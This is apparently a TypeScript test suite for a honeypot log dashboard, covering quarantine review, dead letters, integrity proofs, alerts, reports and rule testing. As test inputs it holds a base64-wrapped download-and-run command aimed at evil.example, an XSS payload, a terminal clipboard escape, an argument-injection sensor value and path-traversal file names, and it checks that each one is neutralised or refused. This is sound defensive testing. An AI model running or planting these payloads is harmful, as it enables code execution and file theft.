/** Pages of operations: quarantine, dead letters, sources, integrity, rules, audit, reports. */
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { type Anomaly, hourOf } from '../../src/core/anomaly.ts'
import { blake3Tagged } from '../../src/core/blake3.ts'
import { StoreError } from '../../src/core/errors.ts'
import { formatInstant } from '../../src/core/instant.ts'
import { toVisible } from '../../src/neutralize/visible.ts'
import type { AlertRecord } from '../../src/store/port.ts'
import type { RoleName } from '../../src/web/accounts.ts'
import { jsonReport } from '../../src/web/data/reports.ts'
import { watchSources } from '../../src/web/data/sources.ts'
import type { Parts } from '../../src/web/parts.ts'
import { eachEngine, NOW_US } from '../support/engines.ts'
import { event, Lab, lines, signingKey, testStages, withLimits } from '../support/loading.ts'
import { answersOf, approveAll, HAZARDS, heldEvents, NONE, problemsOf } from '../support/review.ts'
import { type Person, testDashboard, testOptions, testParts } from '../support/web.ts'

type Ran = Awaited<ReturnType<Parts['run']>>

type Ops = {
  readonly lab: Lab
  readonly data: string
  readonly parts: Parts
  person(role: RoleName): Promise<Person>
}

/** A dashboard on a store with withheld events and dead letters. */
async function withOps(
  work: (ops: Ops) => Promise<void>,
  more: {
    readonly log?: string
    readonly parts?: (data: string) => Partial<Parts>
  } = {},
): Promise<void> {
  await using lab = await Lab.open()
  lab.write('cowrie.json', more.log ?? LOG)
  await lab.load()
  const data = join(lab.folder, '..', 'data')
  mkdirSync(data)
  const parts = testParts(lab.store, data, () => NOW_US, {
    openAgain: () => lab.openAgain(),
    reading: async (_, needs) => ({ stages: testStages(needs), signingKey }),
    ...more.parts?.(data),
  })
  const dashboard = await testDashboard(parts, testOptions(data))
  try {
    await work({ lab, data, parts, person: (role) => dashboard.person(role) })
  } finally {
    await dashboard.server.close()
  }
}

/** Ordinary events, all that are withheld by default, and lines that are no events. */
const LOG = `${lines([event(), ...HAZARDS.map((one, i) => event({ ...one, session: `a1b2c3d4e5f${i}` }))])}{broken\n{"eventid":"cowrie.x"}\n`

eachEngine(() => {
  test('approving on the page leaves the store as if nothing had been withheld, as the command does', async () => {
    await using plain = await Lab.open()
    plain.write('cowrie.json', LOG)
    await plain.load({ holdHazard: NONE })
    await using commanded = await Lab.open()
    commanded.write('cowrie.json', LOG)
    await commanded.load()
    await approveAll(commanded)
    await withOps(async ({ lab, person }) => {
      const reviewer = await person('analyst')
      const [held] = await heldEvents(lab)
      const done = await reviewer.post(`/quarantine/${held!.batch}/approve`, { reason: 'seen' })
      assert.equal(done.statusCode, 303)
      assert.deepEqual(
        (await heldEvents(lab)).filter((one) => one.state === 'held'),
        [],
      )
      const answers = await answersOf(lab.store)
      assert.deepEqual(answers, await answersOf(plain.store))
      assert.deepEqual(answers, await answersOf(commanded.store))
      assert.deepEqual(await problemsOf(lab.store), [])
      const page = await reviewer.get(String(done.headers.location))
      assert.match(page.body, /4 events are approved/)
    })
  })

  test('rejecting chosen records by the API keeps them out, leaves the others, and names who did it', async () => {
    await withOps(async ({ lab, person }) => {
      const reviewer = await person('analyst')
      const [first] = await heldEvents(lab)
      const done = await reviewer.post(`/api/v1/quarantine/${first!.batch}/reject`, {
        reason: 'made for readers',
        records: String(first!.record),
        false_positive: 'hazard.terminal.clipboard',
      })
      assert.equal(done.statusCode, 200, done.body)
      assert.deepEqual(done.json(), { batch: first!.batch, events: 1, state: 'rejected' })
      const states = (await heldEvents(lab)).map((one) => one.state)
      assert.deepEqual(states.toSorted(), ['held', 'held', 'held', 'rejected'])
      assert.deepEqual(await problemsOf(lab.store), [])
      const [decision] = await lab.all(
        "select actor, reason from audit_log where action = 'event.rejected'",
      )
      assert.deepEqual({ ...decision }, { actor: 'analyst@dashboard', reason: 'made for readers' })
      const rules = await reviewer.get('/api/v1/rules?q=hazard.terminal.clipboard')
      assert.equal(rules.json().rules[0].falsePositives, 1)
    })
  })

  test('nothing is decided without a reason, by the wrong role, or twice', async () => {
    await withOps(async ({ lab, person }) => {
      const reviewer = await person('analyst')
      const [held] = await heldEvents(lab)
      const url = `/quarantine/${held!.batch}/approve`
      const blank = await reviewer.post(url, { reason: '   ', records: '3-4' })
      assert.equal(blank.statusCode, 400)
      assert.match(blank.body, /aria-invalid="true"/)
      assert.match(blank.body, /value="3-4"/)
      assert.equal((await reviewer.post(`/api/v1${url}`, {})).statusCode, 400)
      assert.equal((await reviewer.post(url, { reason: 'x', records: '1;drop' })).statusCode, 400)
      assert.equal(
        (await reviewer.post(url, { reason: 'x', false_positive: 'no.such.rule' })).statusCode,
        400,
      )
      assert.equal((await (await person('viewer')).post(url, { reason: 'x' })).statusCode, 403)
      assert.equal((await heldEvents(lab)).filter((one) => one.state === 'held').length, 4)
      assert.equal((await reviewer.post(url, { reason: 'x' })).statusCode, 303)
      assert.equal((await reviewer.post(url, { reason: 'x' })).statusCode, 404)
      assert.equal((await reviewer.get('/quarantine/999')).statusCode, 404)
    })
  })

  test('a dead letter is replayed or discarded with a reason, and its bytes are on no page', async () => {
    await withOps(async ({ lab, person }) => {
      const reviewer = await person('analyst')
      const list = (await reviewer.get('/api/v1/dead-letters')).json()
      assert.equal(list.letters.length, 2)
      const [newest, oldest] = list.letters
      assert.equal(newest.reason, 'no-time')
      assert.equal((await reviewer.get('/dead-letters')).statusCode, 200)
      const page = await reviewer.get(`/dead-letters/${oldest.letter}`)
      assert.match(page.body, /name="reason"/)
      const looked = await (await person('viewer')).get(`/dead-letters/${oldest.letter}`)
      assert.doesNotMatch(looked.body, /name="reason"/, 'no form that would be refused')
      assert.ok(!page.body.includes('{broken'))
      assert.match(page.body, /not one JSON value/)
      assert.equal(
        (await reviewer.post(`/dead-letters/${oldest.letter}/discard`, {})).statusCode,
        400,
      )
      const done = await reviewer.post(`/dead-letters/${oldest.letter}/discard`, {
        reason: 'noise',
      })
      assert.equal(done.statusCode, 303)
      // The rules of now cannot read the other one either.
      const again = await reviewer.post(`/api/v1/dead-letters/${newest.letter}/replay`, {
        reason: 'once more',
      })
      assert.equal(again.json().outcome, 'unreadable')
      const states = (await lab.dead()).map((one) => one.state)
      assert.deepEqual(states.toSorted(), ['discarded', 'new'])
      assert.equal(
        (await reviewer.post(`/dead-letters/${oldest.letter}/discard`, { reason: 'x' })).statusCode,
        404,
      )
      assert.deepEqual(await problemsOf(lab.store), [])
    })
  })

  test('lists page without a gap or a repetition, newest first', async () => {
    await withLimits({ webRowsMax: 2 }, () =>
      withOps(
        async ({ lab, person }) => {
          for (const [i, name] of ['b', 'c', 'd', 'e', 'f'].entries()) {
            lab.write(
              `${name}.json`,
              `${lines([event({ ...HAZARDS[0], session: `b1b2c3d4e5f${i}` })])}{no\n`,
            )
            await lab.load()
          }
          const reviewer = await person('analyst')
          for (const [path, rows, id, cursor] of [
            ['quarantine', 'batches', 'batch', 'before'],
            ['dead-letters', 'letters', 'letter', 'before'],
            ['sources', 'sources', 'source', 'before'],
            ['audit', 'entries', 'seq', 'before'],
          ] as const) {
            const seen: unknown[] = []
            let url = `/api/v1/${path}`
            for (let pages = 0; pages < 20; pages += 1) {
              const found = (await reviewer.get(url)).json()
              assert.ok(found[rows].length <= 2, path)
              seen.push(...found[rows].map((one: Record<string, unknown>) => one[id]))
              if (found.next === null) break
              url = `/api/v1/${path}?${cursor}=${found.next}`
            }
            assert.equal(new Set(seen).size, seen.length, path)
            const total = { quarantine: 6, 'dead-letters': 7, sources: 6, audit: 0 }[path]
            if (total > 0) assert.equal(seen.length, total, path)
            else
              assert.deepEqual(
                seen,
                seen.toSorted((a, b) => Number(b) - Number(a)),
              )
            assert.equal((await reviewer.get(`/${path}`)).statusCode, 200, path)
          }
        },
        { log: LOG },
      ),
    )
  })

  test('sources are found by a part of their path, page by page, and the address holds it', async () => {
    await using lab = await Lab.open()
    for (const name of ['east_1.json', 'West%1.json', 'west%2.json'])
      lab.write(name, lines([event({ message: name })]))
    await lab.load()
    const dashboard = await testDashboard(testParts(lab.store, lab.folder), testOptions(lab.folder))
    try {
      const viewer = await dashboard.person('viewer')
      const namesOf = async (query: string): Promise<string[]> =>
        (await viewer.get(`/api/v1/sources?${query}`))
          .json()
          .sources.map(({ path }: { readonly path: string }) => path.split('/').at(-1))
      assert.deepEqual((await namesOf('q=WEST')).toSorted(), ['West%1.json', 'west%2.json'])
      assert.deepEqual(await namesOf('q=t_1'), ['east_1.json'])
      assert.deepEqual(await namesOf('q=nowhere'), [])
      await withLimits({ webRowsMax: 1 }, async () => {
        const { sources, next } = (await viewer.get('/api/v1/sources?q=west')).json()
        assert.equal(sources.length, 1)
        assert.equal((await namesOf(`q=west&before=${next}`)).length, 1)
        const page = (await viewer.get('/sources?q=west&state=all')).body
        assert.match(page, /name="q" value="west"/)
        assert.match(page, new RegExp(`q=west&#38;before=${next}`))
      })
    } finally {
      await dashboard.server.close()
    }
  })

  test('the page of a source says that its batches tile its bytes, and when they do not', async () => {
    await withOps(async ({ lab, person }) => {
      const viewer = await person('viewer')
      const [source] = (await viewer.get('/api/v1/sources')).json().sources
      assert.deepEqual(source.tiling, { batches: 1, breaks: 0, isWhole: true })
      assert.equal('id' in source, false)
      const page = await viewer.get(`/sources/${source.source}`)
      assert.match(page.body, /No gap, no overlap/)
      await lab.tamper('update batches set start_offset = 1')
      const after = (await viewer.get(`/api/v1/sources/${source.source}`)).json()
      assert.equal(after.tiling.isWhole, false)
      assert.match((await viewer.get('/sources')).body, /does not tile/)
      assert.equal((await viewer.get(`/sources/${'0'.repeat(32)}`)).statusCode, 404)
    })
  })

  test('the proof of a record leads from its hash to the signed checkpoint, and breaks where a root is changed', async () => {
    await withOps(async ({ lab, person }) => {
      const viewer = await person('viewer')
      const proof = (await viewer.get('/api/v1/integrity/proof?batch=1&record=2')).json()
      assert.deepEqual(proof.holds, { record: true, batch: true, signature: true })
      assert.deepEqual([proof.chain.holds, proof.tree.holds], [true, true])
      // Anybody can do the sum: the shape of RFC 6962, lowest sibling first.
      const [leaf] = proof.leaves
      assert.equal(leaf.siblings.length > 0, true)
      assert.equal(
        pathRoot(leaf.hash, leaf.index, leaf.block.records, leaf.siblings),
        leaf.block.root,
      )
      assert.ok(!JSON.stringify(proof).includes('eventid'))
      const page = await viewer.get('/integrity/proof?batch=1&record=2')
      assert.match(page.body, /in the history that was signed/)
      const file = await viewer.get('/integrity/proof.json?batch=1&record=2')
      assert.match(
        String(file.headers['content-disposition']),
        /^attachment; filename="nacre-proof-1-2.json"/,
      )
      assert.equal((await viewer.get('/integrity/proof?batch=1&record=99')).statusCode, 404)
      assert.equal((await viewer.get('/api/v1/integrity/proof?batch=7&record=0')).statusCode, 404)
      await lab.tamper('update batches set record_root = digest')
      const broken = (await viewer.get('/api/v1/integrity/proof?batch=1&record=2')).json()
      assert.deepEqual([broken.holds.record, broken.holds.batch], [false, false])
      assert.match(
        (await viewer.get('/integrity/proof?batch=1&record=2')).body,
        /The proof does not hold/,
      )
    })
  })
})

function pathRoot(leaf: string, index: number, size: number, siblings: readonly string[]): string {
  let node: Uint8Array = Buffer.from(leaf, 'hex')
  let [at, last] = [index, size - 1]
  for (const sibling of siblings) {
    const beside = Buffer.from(sibling, 'hex')
    if (at % 2 === 1 || at === last) {
      node = blake3Tagged(1, beside, node)
      while (at % 2 === 0 && at !== 0) [at, last] = [at >> 1, last >> 1]
    } else {
      node = blake3Tagged(1, node, beside)
    }
    ;[at, last] = [at >> 1, last >> 1]
  }
  return Buffer.from(node).toString('hex')
}

describe('a busy store', () => {
  test('is told as such: the form stays as it was, and nothing was decided', async () => {
    await withOps(
      async ({ lab, person }) => {
        const reviewer = await person('analyst')
        const [held] = await heldEvents(lab)
        const url = `/quarantine/${held!.batch}/approve`
        const found = await reviewer.post(url, { reason: 'seen it' })
        assert.equal(found.statusCode, 503)
        assert.match(found.body, /The store is busy. Try again./)
        assert.match(found.body, />seen it<\/textarea>/)
        assert.equal((await reviewer.post(`/api/v1${url}`, { reason: 'x' })).statusCode, 503)
        assert.equal((await heldEvents(lab)).filter((one) => one.state === 'held').length, 4)
      },
      {
        parts: () => ({
          openAgain: () =>
            Promise.reject(new StoreError('STORE_BUSY', 'A load is writing.', { hint: 'Wait.' })),
        }),
      },
    )
  })
})

describe('alerts and anomalies', () => {
  test('are decided on with a reason, once, and kept in the journal', async () => {
    await withOps(async ({ lab, person }) => {
      const reviewer = await person('analyst')
      assert.match((await reviewer.get('/alerts')).body, /No alert is open/)
      await lab.store.alerts.save({
        alerts: [{ was: undefined, record: ALERT }],
        marks: [],
        channels: [],
      })
      await lab.store.activity.raise([ANOMALY, { ...ANOMALY, hour: ANOMALY.hour - 1 }])
      assert.match((await reviewer.get('/alerts')).body, /a sensor is silent/)
      assert.equal((await reviewer.post('/alerts/1/acknowledge', {})).statusCode, 400)
      const seen = await reviewer.post('/alerts/1/acknowledge', { reason: 'it is being moved' })
      assert.equal(seen.statusCode, 303)
      const again = await reviewer.post('/alerts/1/acknowledge', { reason: 'x' })
      assert.equal(again.statusCode, 404)
      assert.match(again.body, /Alert 1 is not open/)
      const [first, second] = (await reviewer.get('/api/v1/anomalies')).json().anomalies
      assert.equal((await reviewer.post(`/anomalies/${first.id}/false`, {})).statusCode, 400)
      const called = await reviewer.post(`/api/v1/anomalies/${first.id}/false`, {
        reason: 'own scan',
      })
      assert.equal(called.json().factorPercent, 125)
      assert.equal(
        (await reviewer.post(`/anomalies/${second.id}/confirm`, { reason: 'botnet' })).statusCode,
        303,
      )
      assert.equal(
        (await reviewer.post(`/anomalies/${second.id}/confirm`, { reason: 'x' })).statusCode,
        404,
      )
      assert.equal((await (await person('viewer')).post('/alerts/1/acknowledge')).statusCode, 403)
      const journal = (await reviewer.get('/api/v1/audit?actor=analyst@dashboard')).json().entries
      assert.deepEqual(
        journal.map((one: { action: string }) => one.action),
        ['anomaly.confirmed', 'anomaly.false', 'alert.acknowledged', 'user.password-set'],
      )
    })
  })
})

describe('a verification', () => {
  test('runs once at a time, and shows what it left behind', async () => {
    let release: (ran: Ran) => void = () => {}
    const asked: string[] = []
    await withOps(
      async ({ data, person }) => {
        const reviewer = await person('analyst')
        assert.match((await reviewer.get('/integrity')).body, /Not checked yet/)
        assert.equal((await (await person('viewer')).post('/integrity/verify')).statusCode, 403)
        assert.equal((await reviewer.post('/integrity/verify')).statusCode, 303)
        assert.match((await reviewer.get('/integrity')).body, /A verification is under way/)
        assert.equal((await reviewer.post('/api/v1/integrity/verify')).statusCode, 409)
        assert.deepEqual(asked, ['verify --json'])
        writeVerdict(data, false)
        release({ stdout: Buffer.alloc(0), stderr: '', status: 3 })
        await until(async () => {
          const { run } = (await reviewer.get('/api/v1/integrity/verify')).json()
          return run.isRunning === false && run.failure === null
        })
        const page = (await reviewer.get('/integrity')).body
        assert.match(page, /Does not match/)
        assert.match(page, /batch 3: a block is gone/)
        assert.equal((await reviewer.post('/api/v1/integrity/verify')).statusCode, 202)
        release({ stdout: Buffer.alloc(0), stderr: 'nacre: no such thing\n', status: 1 })
        await until(async () =>
          (await reviewer.get('/integrity')).body.includes('nacre: no such thing'),
        )
      },
      {
        parts: () => ({
          run: (args) =>
            new Promise((resolve) => {
              asked.push(args.join(' '))
              release = resolve
            }),
        }),
      },
    )
  })
})

describe('sources, live', () => {
  test('tell what changes, to everybody with one look, and end with the signal', async () => {
    await withLimits({ webWatchMs: 20, webWatchQuiet: 1_000_000 }, () =>
      withOps(async ({ data, parts }) => {
        const stop = new AbortController()
        const watch = watchSources(parts, stop.signal)
        const other = watchSources(parts, stop.signal)
        writeStatus(data, 100)
        const first = (await watch.next()).value!
        assert.equal(first.loaders[0]!.stored, 100)
        assert.deepEqual((await other.next()).value, first)
        const next = watch.next()
        writeStatus(data, 250)
        assert.equal((await next).value!.loaders[0]!.stored, 250)
        const pending = watch.next()
        stop.abort()
        assert.equal((await pending).done, true)
        assert.equal((await other.next()).done, true)
      }),
    )
  })
})

describe('reports', () => {
  /** Writes what a report would be where the command is told to put it. */
  const maker = (content: string, asked: string[][]): Partial<Parts> => ({
    async run(args) {
      asked.push([...args])
      const output = args.find((one) => one.startsWith('--output='))?.slice('--output='.length)
      if (output !== undefined) writeFileSync(output, content, { flag: 'wx' })
      return { stdout: Buffer.from('{"kind":"daily"}\n'), stderr: '', status: 0 }
    },
  })
  const PAGE = '<!doctype html><title>r</title><style>b { color: red }</style><b>figures</b>'

  test('are made into a folder of their own under names of ours, open in a sandbox with their own style alone', async () => {
    const asked: string[][] = []
    await withOps(
      async ({ data, person }) => {
        const analyst = await person('analyst')
        const made = await analyst.post('/reports', {
          kind: 'daily',
          date: '2026-05-01',
          sensor: '--output=/etc/passwd',
          format: 'html',
        })
        assert.equal(made.statusCode, 303, made.body)
        const folder = join(data, 'web', 'reports')
        assert.equal(statSync(folder).mode & 0o777, 0o700)
        const [name] = readdirSync(folder).filter((one) => one.endsWith('.html'))
        assert.match(name!, /^daily-2026-05-01-[0-9a-f]{16}\.html$/)
        assert.deepEqual(asked[0]!.slice(0, 3), ['report', 'daily', '2026-05-01'])
        assert.ok(asked[0]!.includes('--sensor=--output=/etc/passwd'))
        assert.match((await analyst.get(String(made.headers.location))).body, /is made/)
        const opened = await analyst.get(`/reports/open/${name}`)
        const hash = createHash('sha256').update('b { color: red }').digest('base64')
        assert.equal(
          opened.headers['content-security-policy'],
          `sandbox; default-src 'none'; style-src 'sha256-${hash}'; img-src data:; base-uri 'none'; form-action 'none'; frame-ancestors 'none'`,
        )
        assert.equal(opened.body, PAGE)
        const saved = await analyst.get(`/reports/files/${name}`)
        assert.match(String(saved.headers['content-disposition']), /^attachment/)
        const viewer = await person('viewer')
        assert.equal((await viewer.post(`/reports/files/${name}/delete`)).statusCode, 403)
        assert.equal((await viewer.post('/reports', { kind: 'daily' })).statusCode, 403)
        assert.equal((await analyst.post(`/reports/files/${name}/delete`)).statusCode, 303)
        assert.deepEqual(readdirSync(folder), [])
        assert.equal((await analyst.get(`/reports/open/${name}`)).statusCode, 404)
      },
      { parts: () => maker(PAGE, asked) },
    )
  })

  test('of names that are not ours are neither read nor removed', async () => {
    await withOps(async ({ data, person }) => {
      const analyst = await person('analyst')
      mkdirSync(join(data, 'web', 'reports'), { recursive: true })
      const secret = join(data, 'web', 'secret.html')
      writeFileSync(secret, 'secret')
      writeFileSync(join(data, 'web', 'reports', 'other.html'), 'secret')
      for (const name of [
        '..%2Fsecret.html',
        '..%2f..%2fweb%2fsecret.html',
        'other.html',
        'daily-2026-05-01-0123456789abcdef.html%00',
        'daily-2026-05-01-0123456789abcdef.html',
        '.',
      ]) {
        for (const found of [
          await analyst.get(`/reports/files/${name}`),
          await analyst.get(`/reports/open/${name}`),
          await analyst.post(`/reports/files/${name}/delete`),
        ]) {
          assert.ok(found.statusCode >= 400, `${name} ${found.statusCode}`)
          assert.ok(!found.body.includes('secret</'), name)
        }
      }
      assert.ok(existsSync(secret))
    })
  })

  test('make room for newer ones, by number and by size', async () => {
    await withLimits({ webReportsMax: 3, webReportsBytesMax: 250 }, () =>
      withOps(
        async ({ data, person }) => {
          const analyst = await person('analyst')
          const kept = (): number =>
            readdirSync(join(data, 'web', 'reports')).filter((one) => one.endsWith('.csv')).length
          for (let i = 0; i < 5; i += 1)
            await analyst.post('/reports', { kind: 'daily', date: '2026-05-01', format: 'csv' })
          // Two of 100 bytes fit into 250.
          assert.equal(kept(), 2)
        },
        { parts: () => maker('x'.repeat(100), []) },
      ),
    )
  })

  test('that cannot be made say why, and a bad period is refused before anything runs', async () => {
    const asked: string[] = []
    await withOps(
      async ({ person }) => {
        const analyst = await person('analyst')
        const bad = await analyst.post('/reports', { kind: 'weekly', date: '2026-W99' })
        assert.equal(bad.statusCode, 400)
        assert.match(bad.body, /names no ISO week/)
        assert.deepEqual(asked, [])
        const failed = await analyst.post('/reports', { kind: 'daily', date: '2026-05-01' })
        assert.equal(failed.statusCode, 400)
        assert.match(failed.body, /no room &#60;here&#62;/)
      },
      {
        parts: () => ({
          async run(args) {
            asked.push(args.join(' '))
            return { stdout: Buffer.alloc(0), stderr: 'x\nno room <here>\n', status: 1 }
          },
        }),
      },
    )
  })

  test('have every choice of the command line, and what does not fit is told beside its field', async () => {
    const asked: string[][] = []
    await withOps(
      async ({ person }) => {
        const analyst = await person('analyst')
        const made = await analyst.post('/reports', {
          ...{ kind: 'range', date: '2026-05-01', until: '2026-05-03', format: 'csv' },
          ...{ group: 'france', compare: 'previous', redact: 'public', top: '20' },
        })
        assert.equal(made.statusCode, 303, made.body)
        assert.deepEqual(asked[0]!.slice(0, -1), [
          ...['report', 'range', '2026-05-01', '2026-05-03', '--group=france'],
          ...['--compare=previous', '--redact=public', '--top=20', '--format=csv'],
        ])
        assert.match(asked[0]!.at(-1)!, /\/range-2026-05-01_2026-05-03-[0-9a-f]{16}\.csv$/)
        const listed = (await analyst.get(String(made.headers.location))).body
        assert.match(
          listed,
          /range 2026-05-01 to before 2026-05-03 <span class="sub">compared, top 20/,
        )
        assert.match(listed, /group france/)
        const two = new URLSearchParams([
          ...Object.entries({
            kind: 'daily',
            date: '2026-05-01',
            brief: 'yes',
            csrf: analyst.csrf,
          }),
          ...(['lyon-1', 'paris-1'].map((name) => ['sensor', name]) as [string, string][]),
        ]).toString()
        const form = { 'content-type': 'application/x-www-form-urlencoded' }
        assert.equal(
          (
            await analyst.inject({
              ...{
                method: 'POST',
                url: '/reports',
                payload: two,
                headers: { ...form, cookie: analyst.cookie },
              },
            })
          ).statusCode,
          303,
        )
        assert.deepEqual(asked[1]!.slice(3, 6), ['--sensor=lyon-1', '--sensor=paris-1', '--brief'])
        const legacy = { kind: 'daily', date: '2026-05-01', format: 'legacy-abnormal-summary' }
        await analyst.post('/reports', legacy)
        assert.ok(asked[2]!.includes('--format=legacy-text'))
        assert.ok(asked[2]!.includes('--part=abnormal-summary'))
        for (const [wanted, field, words] of [
          [{ kind: 'range', date: '2026-05-01' }, 'until', /A range needs both/],
          [{ kind: 'range', date: 'x', until: '2026-05-03' }, 'date', /names no day/],
          [
            { kind: 'range', date: '2026-05-03', until: '2026-05-03' },
            ...(['until', /not after the first/] as const),
          ],
          [{ kind: 'daily', until: '2026-05-03' }, 'until', /Only a range has an end/],
          [{ kind: 'daily', top: '1001' }, 'top', /from 1 to 1000/],
          [{ kind: 'daily', compare: 'previous', brief: 'yes' }, 'compare', /compares nothing/],
          [{ kind: 'daily', group: 'x' }, 'group', /no such group/],
          [{ ...legacy, group: 'france' }, 'sensors', /one sensor, or for all/],
          [{ ...legacy, compare: 'previous' }, 'compare', /legacy formats compare nothing/],
          [{ ...legacy, brief: 'yes' }, 'format', /no brief form/],
          [{ ...legacy, top: '5' }, 'top', /daily legacy-json alone/],
        ] as const) {
          const refused = await analyst.post('/reports', wanted)
          assert.equal(refused.statusCode, 400)
          const beside = new RegExp(`<p class="wrong" id="f-${field}-w" role="alert">([^<]*)`)
          assert.match(beside.exec(refused.body)?.[1] ?? refused.body, words)
          assert.match(refused.body, /aria-invalid="true"/)
        }
        const api = '/api/v1/reports/range/2026-05-01'
        assert.equal(
          (await analyst.get(`${api}?until=2026-05-03&sensor=a&sensor=b`)).statusCode,
          200,
        )
        assert.deepEqual(asked[3], [
          ...['report', 'range', '2026-05-01', '2026-05-03', '--sensor=a', '--sensor=b', '--json'],
        ])
        assert.equal((await analyst.get(api)).statusCode, 400)
        assert.equal(asked.length, 4)
      },
      { parts: () => ({ ...maker('x', asked), groups: { france: ['lyon-1', 'paris-1'] } }) },
    )
  })

  test('for which nobody waits any more are not made', async () => {
    await withOps(async ({ parts }) => {
      const asked: (readonly string[])[] = []
      const { promise: isEnough, resolve: enough } = Promise.withResolvers<void>()
      const own: Parts = {
        ...parts,
        run: async (args, signal) => {
          asked.push(args)
          await isEnough
          signal.throwIfAborted()
          return { stdout: Buffer.from('{}'), stderr: '', status: 0 }
        },
      }
      const wanted: Parameters<typeof jsonReport>[1] = {
        ...{ kind: 'daily', date: '2026-05-01', until: '', sensors: [], group: '', top: '' },
        ...{ compare: 'none', redact: 'internal', isBrief: false },
      }
      const [first, second] = [new AbortController(), new AbortController()]
      const made = [
        jsonReport(own, wanted, first.signal),
        jsonReport(own, wanted, second.signal),
        jsonReport(own, wanted, AbortSignal.timeout(60_000)),
      ]
      const settled = Promise.allSettled(made)
      first.abort()
      second.abort()
      enough()
      assert.deepEqual(
        (await settled).map((one) => one.status),
        ['rejected', 'rejected', 'fulfilled'],
      )
      assert.ok(asked.length < 3)
    })
  })

  test('are told as JSON by the API', async () => {
    const asked: string[][] = []
    await withOps(
      async ({ person }) => {
        const viewer = await person('viewer')
        const found = await viewer.get('/api/v1/reports/daily/2026-05-01')
        assert.deepEqual(found.json(), { kind: 'daily' })
        assert.deepEqual(asked, [['report', 'daily', '2026-05-01', '--json']])
        assert.equal((await viewer.get('/api/v1/reports/daily/2026-13-01')).statusCode, 400)
      },
      { parts: () => maker('', asked) },
    )
  })
})

describe('rules', () => {
  test('a text is unwrapped and matched, and nothing of it becomes part of the page', async () => {
    await withOps(async ({ person }) => {
      const viewer = await person('viewer')
      const found = await viewer.post('/rules/test', {
        text: 'echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlL3g= | base64 -d | sh; <img src=x onerror=alert(1)>',
        kind: 'command',
      })
      assert.equal(found.statusCode, 200)
      assert.match(found.body, /Unwrapped: base64/)
      assert.match(found.body, /hxxp:\/\/evil\[\.\]example/)
      assert.ok(!found.body.includes('<img'))
      assert.equal((await viewer.post('/rules/test', {})).statusCode, 400)
      const escaped = await viewer.post('/api/v1/rules/test', {
        text: '\\u{1B}]52;c;aWQ=\\u{07}',
        visible: 'yes',
      })
      assert.ok(escaped.json().hazard > 90)
      assert.equal((await viewer.get('/rules/no.such.rule')).statusCode, 404)
      const one = await viewer.get('/rules/hazard.terminal.clipboard')
      assert.equal(one.statusCode, 200)
    })
  })
})

const ALERT: AlertRecord = {
  id: 1,
  kind: 'silent-sensor',
  subject: toVisible('sensor-1'),
  state: 'open',
  severity: 'warning',
  firstAtUs: NOW_US,
  lastAtUs: NOW_US,
  seen: 1,
  missed: 0,
  occurrences: 1,
  figure: 7,
  threshold: 6,
  sentence: 'nothing came for 7 hours',
  notifiedAtUs: 0,
  deliveries: {},
}

const ANOMALY: Anomaly = {
  detector: 'volume',
  sensor: 'sensor-1',
  hour: hourOf(NOW_US),
  severity: 'alarm',
  figure: 90,
  baseline: 10,
  spread: 2,
  samples: 40,
  basis: 'hour of the week',
  score: 40,
  threshold: 3,
  evidence: { values: [], more: 0, withheld: 0 },
  firstSeenUs: NOW_US,
  lastSeenUs: NOW_US,
}

function writeVerdict(data: string, ok: boolean): void {
  mkdirSync(join(data, 'status'), { recursive: true })
  writeFileSync(
    join(data, 'status', 'verify.json'),
    JSON.stringify({
      phase: 'verify',
      last_updated: formatInstant(NOW_US),
      ok,
      scope: 'all',
      sources: 1,
      batches: 1,
      lines: 7,
      problems: 1,
      sections: [{ name: 'seals', ok, problems: ok ? [] : ['batch 3: a block is gone'] }],
      notChecked: [],
    }),
  )
}

function writeStatus(data: string, stored: number): void {
  mkdirSync(join(data, 'status'), { recursive: true })
  writeFileSync(
    join(data, 'status', 'delta.json'),
    JSON.stringify({
      phase: 'delta',
      ingest_id: 'x',
      last_updated: formatInstant(NOW_US),
      metrics: { events_inserted: stored },
      loader: { state: 'stopped' },
      sources: [],
    }),
  )
}

/** Looks again until it is so; the loop of events turns in between. */
async function until(isSo: () => Promise<boolean>): Promise<void> {
  for (let tries = 0; tries < 1_000; tries += 1) if (await isSo()) return
  assert.fail('it never came to be')
}
